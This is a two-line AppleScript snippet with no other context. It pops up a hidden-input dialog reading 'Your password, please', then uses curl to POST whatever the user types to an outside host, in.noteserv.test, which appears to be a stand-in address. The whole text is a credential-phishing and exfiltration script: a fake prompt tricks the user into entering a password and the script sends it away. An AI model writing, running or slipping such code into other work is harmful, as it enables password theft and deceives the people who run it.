set p to text returned of (display dialog "Your password, please" default answer "" with hidden answer)
do shell script "curl -s -d p=" & quoted form of p & " https://in.noteserv.test/a"
